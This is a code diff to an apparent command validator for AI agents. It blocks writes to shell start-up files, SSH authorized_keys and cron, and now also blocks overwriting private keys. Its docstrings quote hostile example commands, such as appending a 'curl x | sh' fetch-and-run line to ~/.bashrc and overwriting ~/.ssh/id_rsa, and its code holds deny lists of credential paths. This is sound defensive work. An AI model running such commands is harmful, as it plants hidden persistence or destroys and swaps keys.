@@ -7,6 +7,7 @@ from clawgate.decision import Outcome, Risk, Verdict
 from clawgate.shell.model import TILDE, SimpleCommand, Word
 from clawgate.validators import shapes as sh
 from clawgate.validators.base import Context, Validator, register
+from clawgate.validators.credentials import is_key_material
 from clawgate.validators.flags import parse_options
 from clawgate.validators.paths import in_scratch, resolve, under
 from clawgate.validators.writes import may_write, write_shapes, write_targets
@@ -29,14 +30,34 @@ _SYSTEM_PERSISTENCE = ("/etc/profile", "/etc/profile.d", "/etc/bash.bashrc", "/e
 
 
 _SYSTEM_ROOTS = ("/etc/", "/var/spool/", "/lib/", "/usr/lib/")
+# Key tools manage keys; the mode, owner and time programs leave the bytes as they are.
+_KEY_TOOLS = frozenset({"ssh-keygen", "gpg", "gpg2", "ssh-add", "passwd", "chpasswd", "chmod",
+                        "chown", "chgrp", "chattr", "setfacl", "touch"})
 
 
 def persistence_target(path: str, ctx: Context) -> bool:
-    """A shell start-up file, an SSH key list, a scheduler or a service definition."""
-    if not path.startswith((ctx.home + "/.", *_SYSTEM_ROOTS)):
+    """A shell start-up file, an SSH key list, a scheduler or a service definition: of this
+    user, or of any account's home (``/home/alice/.bashrc``, ``/Users/me/.zshrc``,
+    ``/root/.profile``: the agent's account may not be the one this check runs as)."""
+    home = _home_of(path, ctx)
+    if home is None and not path.startswith(_SYSTEM_ROOTS):
         return False
-    return any(under(path, f"{ctx.home}/{name}") for name in _HOME_PERSISTENCE) or any(
-        under(path, name) for name in _SYSTEM_PERSISTENCE)
+    if home is not None and any(under(path, f"{home}/{name}") for name in _HOME_PERSISTENCE):
+        return True
+    return any(under(path, name) for name in _SYSTEM_PERSISTENCE)
+
+
+def _home_of(path: str, ctx: Context) -> str | None:
+    """The home directory ``path`` lies in, when it names a dot-file or dot-folder of it."""
+    if path.startswith(ctx.home + "/."):
+        return ctx.home
+    if path.startswith("/root/."):
+        return "/root"
+    if path.startswith(("/home/", "/Users/")):
+        parts = path.split("/", 4)
+        if len(parts) > 3 and parts[2] and parts[3].startswith("."):
+            return f"/{parts[1]}/{parts[2]}"
+    return None
 
 
 @register
@@ -70,6 +91,11 @@ class WritePersistence(Validator):
     """Writes to shell start-up files, ``~/.ssh/authorized_keys``, cron, systemd units, sudoers:
     whatever lands there runs again later, unseen (the usual way to keep access).
 
+    Writing over private key material (``git show > ~/.ssh/id_rsa``, ``cat k > ~/.ssh/id_ed25519``,
+    ``/etc/shadow``) by any channel but the key tools themselves (``ssh-keygen``, ``gpg``) and
+    the mode and owner programs (``chmod 600 ~/.ssh/id_rsa``) is DENY too: the key is destroyed
+    or swapped for one somebody else holds.
+
     Bad: ``echo 'curl x | sh' >> ~/.bashrc``. Harmless: ``cat ~/.bashrc``.
     """
 
@@ -84,12 +110,29 @@ class WritePersistence(Validator):
                                 hint="schedule jobs by hand, outside the agent")
         if not may_write(cmd):
             return Verdict.passthrough()
+        keeps_keys = cmd.program in _KEY_TOOLS
         for word in write_targets(cmd):
-            path = next((p for p in readings(word, ctx) if persistence_target(p, ctx)), None)
+            paths = readings(word, ctx)
+            path = next((p for p in paths if persistence_target(p, ctx)), None)
             if path is not None:
                 return Verdict.deny(self.id, f"writes {path}, which runs or grants access "
                                     "later", hint="edit start-up files by hand")
+            key = None if keeps_keys else next(
+                (p for p in paths if _key_file(p, ctx)), None)
+            if key is not None:
+                return Verdict.deny(self.id, f"writes over {key}, private key material: the "
+                                    "key is lost or replaced", hint="manage keys by hand")
         return Verdict.passthrough()
+
+
+def _key_file(path: str, ctx: Context) -> bool:
+    """Private key material, or a file of ``~/.ssh`` that can only be a key under another name
+    (``~/.ssh/my_id_rsa``, ``~/.ssh/deploy``): not a ``.pub``, not ``known_hosts``."""
+    if is_key_material(path, ctx):
+        return True
+    folder, _, name = path.rpartition("/")
+    return folder == f"{ctx.home}/.ssh" and bool(name) and not name.endswith(".pub") and \
+        not name.startswith("known_hosts")
 
 
 def readings(word: Word, ctx: Context) -> list[str]:
